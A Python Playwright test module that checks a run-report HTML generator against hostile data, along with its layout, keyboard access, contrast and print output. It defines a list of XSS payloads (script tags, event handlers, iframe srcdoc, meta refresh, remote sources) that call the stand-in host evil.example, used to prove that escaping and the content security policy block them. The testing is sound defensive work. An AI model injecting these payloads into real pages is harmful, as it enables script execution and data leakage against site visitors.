"""Reports in a real browser: nothing of the data runs, nothing is requested, and what is there can be read and used at every width."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page

import packagers
from packagers_runs.report.writing import write_report
from packagers_runs.runstore import Store, connect

WIDTHS = (390, 1280)
RUN = "window.pwned = 1; fetch('https://evil.example/'); alert(1); document.title = 'theirs'"
MARKUP = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f'\'><svg onload="{RUN}"><style>*{{background:url(https://evil.example/css)}}</style>',
    f"</title></style></script></pre></textarea><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"javascript:{RUN}",
    f'x" style="background:url(https://evil.example/style)" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css><object data=https://evil.example/></object>",
    "{{7*7}}${7*7}\u202etxt.exe\u2066\x1b[31m\x00" + "W" * 3000,
)
ALL = " ".join(MARKUP)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>".encode()
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=")
UIDS = {"plain": "1" * 32, "failed": "2" * 32, "hyper": "3" * 32}


class EvilPackager(packagers.Packager):
    """Pack it, and give it descriptions and previews that try to be markup."""

    PACKABLE_OBJECT_TYPE = dict
    DEFAULT_PACKING_ARTIFACT_TYPE = "model"

    def pack_model(self, obj: dict[str, Any], folder: Path) -> packagers.Instructions:
        (folder / "model.svg").write_bytes(SVG)
        return {}

    def unpack_model(self, folder: Path) -> dict[str, Any]:
        return {}

    def describe(self, obj: dict[str, Any]) -> dict[str, Any]:
        return {text[:2000]: text for text in MARKUP}

    def preview(self, obj: dict[str, Any]) -> dict[str, Any]:
        return {"table": {"columns": list(MARKUP), "rows": [list(MARKUP)] * 3}}


class EvilPicturePackager(EvilPackager):
    """The same, with a picture that is none."""

    def preview(self, obj: dict[str, Any]) -> dict[str, Any]:
        return {"png": base64.b64encode(SVG).decode()}


def artifacts_of(folder: Path) -> dict[str, packagers.Artifact]:
    """Pack values whose previews try to be markup, and a model that is linked to them."""
    with packagers.Session(folder, record=False) as plain:
        plain.pack(ALL, "text : file")
        plain.pack(SVG, "svg : file")
        plain.pack({text: text for text in MARKUP}, "rows : file")
    registry = packagers.Registry()
    registry.add("dict", EvilPackager)
    with packagers.Session(folder, record=False, registry=registry) as session:
        session.pack(PNG, "picture : file")
        session.pack({}, {"key": "model", "labels": {MARKUP[0]: MARKUP[1]}, "extra_data": {"note": ALL, "picture": ...}})
    others = packagers.Registry()
    others.add("dict", EvilPicturePackager)
    with packagers.Session(folder, record=False, registry=others) as other:
        other.pack({}, "impostor")
    return {**plain.artifacts, **session.artifacts, **other.artifacts}


def status_of(kind: str, artifacts: dict[str, packagers.Artifact]) -> dict[str, Any]:
    listed = [
        {
            "kind": artifact.artifact_type,
            "metadata": {"key": key, "uri": MARKUP[4], "hash": artifact.digest},
            "spec": {"size": artifact.manifest.size, "object_type": artifact.object_type},
        }
        for key, artifact in artifacts.items()
    ]
    listed.append({"kind": ALL, "metadata": {"key": ALL, "uri": ALL, "hash": ALL}, "spec": {"object_type": ALL, "size": 3}})
    status = {"state": "completed", "host": ALL, "status_text": ALL, "results": {f"{n} {t}": t for n, t in enumerate(MARKUP)}}
    status |= {"artifacts": listed, "start_time": "2026-11-22T05:30:00+00:00", "end_time": MARKUP[0], "commit": ALL, "reason": MARKUP[0]}
    status["notifications"] = {ALL: {"status": ALL, "reason": ALL, "sent_time": ALL}}
    if kind == "failed":
        status |= {"state": "error", "error": ALL, "traceback": "\n".join(MARKUP), "error_type": ALL}
    if kind == "hyper":
        header = ["state", "iter", f"param.{MARKUP[0]}", "param.depth", "output.accuracy", f"output.{MARKUP[1]}"]
        rows = [["completed", n, MARKUP[n % 9], n % 7 or None, (n * 37 % 101) / 100, ALL] for n in range(1, 31)]
        status |= {"iterations": [header, *rows], "results": {"accuracy": 1.0, "best_iteration": 30}}
    return status


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
    """The reports of a plain, a failed and a hyper run, in which whatever data holds tries to be markup."""
    with connect(f"sqlite:///{tmp_path_factory.mktemp('store')}/runs.db") as store:
        yield {kind: hostile_report(store, kind) for kind in UIDS}


def hostile_report(store: Store, kind: str) -> Path:
    uid = UIDS[kind]
    document: dict[str, Any] = {
        "metadata": {"uid": uid, "name": MARKUP[3] + kind, "project": MARKUP[0], "labels": {t[:200]: t for t in MARKUP}, "iteration": 0},
        "spec": {
            "handler": ALL,
            "parameters": {f"{n} {t}": t for n, t in enumerate(MARKUP)},
            "hyperparams": {MARKUP[0]: list(MARKUP)},
            "hyper_param_options": {"selector": "max.accuracy", "strategy": MARKUP[0]},
            "inputs": {MARKUP[0]: MARKUP[4], "many": list(MARKUP)},
            "inputs_type_hints": {MARKUP[0]: MARKUP[1]},
        },
        "status": {"state": "running"},
    }
    attempt = store.begin(document)
    artifacts = artifacts_of(store.staging(attempt))
    from packagers_runs.store.journal import Journal

    with Journal(store.database, attempt) as journal:
        journal.write(ALL + "\n" + "\x1b[1m" + "x" * 2000)
    store.write(attempt, {**document, "status": status_of(kind, artifacts)}, artifacts)
    return write_report(store, uid)


def poke(page: Page) -> None:
    """Do what a reader does: open what is closed, press each button, move over everything."""
    page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    page.evaluate("document.querySelectorAll('button').forEach(each => each.click())")
    page.evaluate("document.querySelectorAll('*').forEach(each => each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))")
    page.keyboard.press("Tab")


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("kind", UIDS)
def test_nothing_runs_and_nothing_is_requested(kind: str, width: int, reports: dict[str, Path], watched: Callable[..., Any]) -> None:
    seen = watched(width)
    page = seen.open(reports[kind])
    title = page.title()
    poke(page)
    assert page.evaluate("window.pwned") is None
    assert seen.complaints == []
    own = reports[kind].as_uri()
    assert [url for url in seen.requests if url != own and not url.startswith("data:image/png;base64,")] == []
    assert page.title() == title
    state = "error" if kind == "failed" else "completed"
    assert title.endswith(("…", f" · {state}"))
    assert title.startswith("</title></style></script>")
    assert page.evaluate(
        "[document.scripts.length, document.styleSheets.length, document.querySelectorAll('iframe, object, base').length]"
    ) == [1, 1, 0]
    assert page.evaluate("[...document.links].every(each => each.protocol === 'file:')")
    assert page.evaluate("document.querySelectorAll('[style], [onload], [onerror], [onfocus], [onmouseover]').length") == 0
    assert page.evaluate("[...document.images].every(each => each.complete && each.naturalWidth > 0) && document.images.length") == 1


@pytest.mark.parametrize("width", [320, *WIDTHS])
@pytest.mark.parametrize("kind", UIDS)
def test_the_page_is_as_wide_as_the_window(kind: str, width: int, reports: dict[str, Path], watched: Callable[..., Any]) -> None:
    page = watched(width).open(reports[kind])
    page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    beyond = "[...document.querySelectorAll('main *')].filter(e => !e.closest('.box, pre') && e.getBoundingClientRect().right > innerWidth)"
    assert page.evaluate(f"{beyond}.map(each => each.outerHTML.slice(0, 80))") == []


def test_short_results_fit_a_phone(reports: dict[str, Path], watched: Callable[..., Any]) -> None:
    box = watched(390).open(reports["hyper"]).locator(".box", has_text="best_iteration").first
    assert box.evaluate("each => [each.innerText.includes('accuracy'), each.scrollWidth - each.clientWidth]") == [True, 0]


@pytest.mark.parametrize("is_there", [True, False], ids=["policy", "none"])
def test_the_policy_holds_even_where_escaping_would_not(
    is_there: bool, reports: dict[str, Path], watched: Callable[..., Any], tmp_path: Path, web_server: Any
) -> None:
    """Put the markup into a page as it is: the browser runs and requests nothing; without the policy it does."""
    sources = ("img src", "iframe src", "object data", "video autoplay src", "embed src", "link rel=stylesheet href", "script src")
    remote = "".join(f"<{source}=https://evil.example/{source[:3]}></{source.split()[0]}>" for source in sources)
    form = "<form action=https://evil.example/form target=_blank><button id=go></button></form>"
    hostile = form + remote + "\n".join(text for text in MARKUP if "http-equiv=refresh" not in text)
    html = (
        reports["plain"]
        .read_text(encoding="utf-8")
        .replace("<footer>", f"{hostile.replace('https://evil.example', web_server.url)}<footer>")
    )
    if not is_there:
        html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    broken = tmp_path / "broken.html"
    broken.write_text(html, "utf-8")
    seen = watched()
    page = seen.open(broken)
    page.evaluate("document.getElementById('go').click()")
    poke(page)
    page.wait_for_load_state("networkidle")
    asked = [path for _, path, _, _ in web_server.heard]
    if is_there:
        assert asked == []
        assert page.evaluate("window.pwned") is None
        assert page.title() != "theirs"
        assert any("Content Security Policy" in text for text in seen.complaints)
    else:
        assert {"/img", "/ifr", "/scr"} <= set(asked)
        assert page.evaluate("window.pwned") == 1
        assert page.title() == "theirs"


def column(page: Page, number: int) -> list[str]:
    cells: list[str] = page.evaluate(f"[...document.querySelectorAll('table.sortable tbody tr')].map(r => r.cells[{number}].textContent)")
    return cells


def test_the_table_of_iterations_is_sorted_by_keyboard_and_mouse(reports: dict[str, Path], watched: Callable[..., Any]) -> None:
    page = watched().open(reports["hyper"])
    accuracy = page.locator("table.sortable thead button", has_text="output.accuracy")
    before = column(page, 4)
    accuracy.click()
    rising = list(map(float, column(page, 4)))
    assert rising == sorted(map(float, before))
    assert rising != list(map(float, before))
    assert page.locator("th[aria-sort=ascending]").inner_text().startswith("output.accuracy")
    accuracy.press("Enter")
    assert list(map(float, column(page, 4))) == rising[::-1]
    assert page.locator("th[aria-sort=descending]").count() == 1
    depth = page.locator("table.sortable thead button", has_text="param.depth")
    for _ in range(2):  # what has no value stays at the end, whichever way
        depth.click()
        cells = column(page, 3)
        assert cells[-4:] == ["", "", "", ""]
        assert "" not in cells[:-4]
    assert cells[0] == "6"
    assert page.locator("tr.best").inner_text().split()[:2] == ["completed", "best"]


def test_every_button_and_box_is_reached_by_keyboard(reports: dict[str, Path], watched: Callable[..., Any]) -> None:
    page = watched().open(reports["hyper"])
    page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    wanted = page.evaluate("document.querySelectorAll('a, button, summary, [tabindex]').length")
    page.evaluate("window.reached = new Set(); document.addEventListener('focusin', e => window.reached.add(e.target))")
    for _ in range(wanted):
        page.keyboard.press("Tab")
    assert page.evaluate("window.reached.size") == wanted
    unreachable = "[...document.querySelectorAll('.box, pre')].filter(e => e.scrollWidth > e.clientWidth + 1 && e.tabIndex < 0).length"
    assert page.evaluate(unreachable) == 0


def contrast(page: Page, selector: str) -> float:
    """Give the contrast of the text of an element, as WCAG 2 counts it."""
    found: float = page.evaluate(
        """selector => {
          const part = v => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4;
          const light = c => c.match(/[0-9.]+/g).slice(0, 3).reduce((sum, v, i) => sum + [.2126, .7152, .0722][i] * part(v), 0);
          const element = document.querySelector(selector);
          let ground = element;
          while (getComputedStyle(ground).backgroundColor === 'rgba(0, 0, 0, 0)') ground = ground.parentElement;
          const a = light(getComputedStyle(element).color), b = light(getComputedStyle(ground).backgroundColor);
          return (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
        }""",
        selector,
    )
    return found


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_read_in_light_and_dark(scheme: str, reports: dict[str, Path], watched: Callable[..., Any]) -> None:
    page = watched(color_scheme=scheme).open(reports["failed"])
    assert (page.evaluate("getComputedStyle(document.documentElement).backgroundColor") == "rgb(255, 255, 255)") == (scheme == "light")
    for selector in ("h1", ".badge", "dt", "dd", ".alarm p", "nav a", "summary", "thead th", ".soft", ".meta", "pre.log", "footer"):
        assert contrast(page, selector) >= 4.5, selector


def test_a_printed_report_holds_all_that_scrolls_on_a_screen(reports: dict[str, Path], watched: Callable[..., Any], tmp_path: Path) -> None:
    page = watched(794).open(reports["hyper"])  # A4
    page.emulate_media(media="print", color_scheme="dark")
    assert page.evaluate("getComputedStyle(document.documentElement).backgroundColor") == "rgb(255, 255, 255)"
    assert page.evaluate("getComputedStyle(document.querySelector('nav')).display") == "none"
    hidden = (
        "[...document.querySelectorAll('.box, pre, .long')].filter(e => e.offsetParent && getComputedStyle(e).maxHeight !== 'none').length"
    )
    assert page.evaluate(hidden) == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= 794
    page.pdf(path=tmp_path / "report.pdf")
    assert (tmp_path / "report.pdf").read_bytes().startswith(b"%PDF-")
